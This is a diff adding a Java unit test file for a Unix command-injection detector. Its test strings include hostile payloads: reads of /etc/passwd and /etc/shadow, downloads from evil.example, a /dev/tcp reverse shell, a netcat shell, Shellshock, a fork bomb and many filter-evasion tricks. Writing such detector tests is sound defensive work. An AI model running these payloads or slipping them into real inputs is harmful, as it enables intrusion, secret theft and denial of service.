@@ -1,0 +1,233 @@
+package dev.bulwark.core.internal.shell;
+
+import static dev.bulwark.core.internal.shell.DetectorAssertions.basic;
+import static dev.bulwark.core.internal.shell.DetectorAssertions.header;
+import static dev.bulwark.core.internal.shell.DetectorAssertions.standard;
+import static dev.bulwark.core.internal.shell.DetectorAssertions.strict;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import dev.bulwark.core.Level;
+import dev.bulwark.core.internal.rules.RuleDefinition;
+import java.time.Duration;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class UnixCommandDetectorTest {
+
+    private final UnixCommandDetector detector = new UnixCommandDetector();
+
+    @Test
+    void declaresItsRulesUnderOneKey() {
+        assertThat(detector.key()).isEqualTo("UNIXCMD");
+        assertThat(detector.rules()).extracting(RuleDefinition::key).containsOnly("UNIXCMD");
+        assertThat(detector.rules()).extracting(RuleDefinition::level)
+                .contains(Level.BASIC, Level.STANDARD, Level.STRICT);
+    }
+
+    @Test
+    void detectsCommandChainedAfterSemicolon() {
+        assertThat(basic(detector, "127.0.0.1; cat /etc/passwd")).contains("UNIXCMD-CHAIN");
+    }
+
+    @Test
+    void detectsCommandAfterPipe() {
+        assertThat(standard(detector, "foo|id")).isNotEmpty();
+        assertThat(standard(detector, "x|whoami")).contains("UNIXCMD-CHAIN");
+    }
+
+    @Test
+    void detectsCommandAfterAndAnd() {
+        assertThat(standard(detector, "true && wget http://evil.example/x.sh")).isNotEmpty();
+    }
+
+    @Test
+    void detectsCommandOnNewLine() {
+        assertThat(standard(detector, "name\ncat /etc/shadow")).isNotEmpty();
+    }
+
+    @Test
+    void detectsDollarParenSubstitution() {
+        assertThat(standard(detector, "$(whoami)")).isNotEmpty();
+        assertThat(standard(detector, "report-$(uname -a).txt")).isNotEmpty();
+    }
+
+    @Test
+    void detectsBacktickSubstitution() {
+        assertThat(standard(detector, "`uname -a`")).isNotEmpty();
+        assertThat(standard(detector, "a`wget evil.example`b")).isNotEmpty();
+    }
+
+    @Test
+    void detectsProcessSubstitution() {
+        assertThat(standard(detector, "<(curl http://evil.example/s)")).isNotEmpty();
+    }
+
+    @Test
+    void detectsReverseShell() {
+        assertThat(basic(detector, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")).contains("UNIXCMD-REVERSE-SHELL");
+    }
+
+    @Test
+    void detectsShellshock() {
+        assertThat(basic(detector, "() { :; }; /bin/bash -c id")).containsExactly("UNIXCMD-SHELLSHOCK");
+    }
+
+    @Test
+    void detectsQuoteSplitCommandName() {
+        assertThat(standard(detector, "c'a't /etc/hosts")).isNotEmpty();
+        assertThat(standard(detector, "c\"a\"t /etc/hosts")).isNotEmpty();
+        assertThat(standard(detector, "'i'fconfig")).contains("UNIXCMD-EVASION");
+    }
+
+    @Test
+    void detectsBackslashSplitCommandName() {
+        assertThat(standard(detector, ";c\\at /etc/passwd")).isNotEmpty();
+    }
+
+    @Test
+    void detectsEmptyExpansionsInsideCommandName() {
+        assertThat(standard(detector, "x;c$@at /etc/passwd")).isNotEmpty();
+        assertThat(standard(detector, "wh$()oami")).isNotEmpty();
+        assertThat(standard(detector, "who``ami")).isNotEmpty();
+    }
+
+    @Test
+    void detectsIfsWordSplitting() {
+        assertThat(standard(detector, ";cat${IFS}/etc/passwd")).isNotEmpty();
+        assertThat(standard(detector, "cat$IFS$9/etc/passwd")).isNotEmpty();
+    }
+
+    @Test
+    void detectsBraceExpansion() {
+        assertThat(standard(detector, "{cat,/etc/passwd}")).isNotEmpty();
+        assertThat(standard(detector, "{,ifconfig}")).isNotEmpty();
+    }
+
+    @Test
+    void detectsGlobbedCommandPath() {
+        assertThat(standard(detector, "/???/c?t /???/p?ss??")).isNotEmpty();
+        assertThat(standard(detector, "/bin/ca? /et*/passwd")).isNotEmpty();
+    }
+
+    @Test
+    void detectsGlobbedSensitiveFile() {
+        assertThat(standard(detector, "/etc/pa[s]swd")).contains("UNIXCMD-GLOB-PATH");
+    }
+
+    @Test
+    void detectsAnsiCQuotedName() {
+        assertThat(standard(detector, "$'\\x63\\x61\\x74' /etc/passwd")).isNotEmpty();
+    }
+
+    @Test
+    void detectsPathSubstringTrick() {
+        assertThat(standard(detector, ";cat ${PATH:0:1}etc${PATH:0:1}passwd")).isNotEmpty();
+    }
+
+    @Test
+    void detectsVariableIndirection() {
+        assertThat(standard(detector, "a=c;b=at;$a$b /etc/passwd")).isNotEmpty();
+        assertThat(standard(detector, "x=nc&&$x -e /bin/sh 10.0.0.1 9")).isNotEmpty();
+    }
+
+    @Test
+    void detectsPathQualifiedCommand() {
+        assertThat(standard(detector, "/usr/bin/id")).isNotEmpty();
+        assertThat(standard(detector, "/bin/sh -c 'echo hi'")).isNotEmpty();
+    }
+
+    @Test
+    void detectsInterpreterWithCode() {
+        assertThat(standard(detector, "python3 -c 'import os; os.system(\"id\")'")).isNotEmpty();
+        assertThat(standard(detector, "perl -e 'print 1' file")).isNotEmpty();
+    }
+
+    @Test
+    void detectsEverydayWordCommandWithSystemPath() {
+        assertThat(standard(detector, "cat /etc/passwd")).contains("UNIXCMD-COMMAND");
+        assertThat(standard(detector, "find /etc -name shadow")).isNotEmpty();
+    }
+
+    @Test
+    void detectsCommandInjectedAfterClosingQuote() {
+        assertThat(standard(detector, "x'; ping -c 3 127.0.0.1; '")).isNotEmpty();
+        assertThat(standard(detector, "\";id;\"")).isNotEmpty();
+    }
+
+    @Test
+    void detectsCommandAfterPrefixCommand() {
+        assertThat(standard(detector, "nohup nc -lvp 4444")).isNotEmpty();
+        assertThat(standard(detector, "time sh -c whoami")).isNotEmpty();
+    }
+
+    @Test
+    void detectsCommandOutputRunAsCommand() {
+        assertThat(standard(detector, ";`cat<<<whoami`")).isNotEmpty();
+    }
+
+    @Test
+    void detectsHtmlEncodedSeparator() {
+        assertThat(standard(detector, "x&#59;whoami")).isNotEmpty();
+    }
+
+    @Test
+    void detectsForkBomb() {
+        assertThat(standard(detector, ":(){ :|:& };:")).contains("UNIXCMD-FORK-BOMB");
+    }
+
+    @Test
+    void detectsCommandInUserAgent() {
+        assertThat(header(detector, "User-Agent", "ansible-playbook site.yml")).isNotEmpty();
+    }
+
+    @Test
+    void reportsBareToolNameOnlyWhenStrict() {
+        assertThat(standard(detector, "whoami")).isEmpty();
+        assertThat(strict(detector, "whoami")).containsExactly("UNIXCMD-WEAK");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "Tom & Jerry", "Q&A", "rock; paper; scissors", "cats | dogs", "time to eat", "find more",
+        "O'Brien", "select your size", "1 or 2 items", "drop-down", "a=b&c=d", "a=b; c=d",
+        "https://example.com/search?q=cat&page=2&sort=date", "john.doe@example.com",
+        "Price: $5 + tax", "Set $HOME to your directory", "report.pdf", "2024-05-01",
+        "+1 (555) 123-4567", "/home/user/docs/report.pdf", "I <3 cats", "version 1.2.3-beta",
+        "**bold** and `code` in Markdown", "Use `ls` to list files", "# Heading\n- item one\n- item two",
+        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+        "dGhpcyBpcyBiYXNlNjQrLz0=", "123e4567-e89b-12d3-a456-426614174000", "${TM_SESSION_ID}",
+        "Women > Tops > Tank Tops", "BASE; SET SWAROVSKI", "1; exec will create the case 7",
+        "Apt is gated; call when you get here", "if all else fails call grandma", "b&w photos",
+        "python", "ruby on rails", "curl up with a book", "the cat sat on the mat", "*/*",
+        "{\"title\":\"Shirts | ZAFUL\",\"price\":\"$12\"}", "salt & pepper; more later",
+        "$(document).ready(function(){ run(); })", "It's a dog's life; more /r/dogs later",
+    })
+    void ignoresOrdinaryValues(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @Test
+    void ignoresUserAgentHeader() {
+        assertThat(header(detector, "User-Agent",
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")).isEmpty();
+        assertThat(header(detector, "User-Agent", "curl/8.4.0")).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"'((((", "<<<<", "${${${", ";;;;", "$($($(", "`", "{a,{a,{a,", "\\", "$'\\x", "a=b;"})
+    void finishesQuicklyOnMegabyteOfRepetitiveInput(String unit) {
+        String value = unit.repeat((1 << 20) / unit.length());
+        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> standard(detector, value));
+    }
+
+    @Test
+    void finishesQuicklyOnDeeplyNestedSubstitutions() {
+        String value = "$(".repeat(100_000) + "id" + ")".repeat(100_000);
+        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> standard(detector, value));
+    }
+}
